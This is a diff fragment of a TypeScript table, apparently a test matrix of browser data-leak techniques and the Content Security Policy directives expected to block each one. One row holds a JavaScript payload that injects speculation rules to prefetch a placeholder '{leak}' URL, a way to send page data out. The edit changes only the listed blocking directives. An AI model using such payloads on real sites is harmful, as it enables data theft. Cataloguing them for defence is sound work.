@@ -77,7 +77,7 @@ const ROWS: readonly Row[] = [
     'a page is loaded beforehand, by rules',
     '{let s=document.createElement(\'script\');s.type=\'speculationrules\';s.textContent=\'{"prefetch":[{"source":"list","urls":["{leak}"]}]}\';document.body.append(s)}',
     'trusted-types',
-    { blockedBy: ['trusted-types', 'script-src'] },
+    { blockedBy: ['trusted-types', 'no-strict-dynamic'] },
   ],
   [
     'E59',
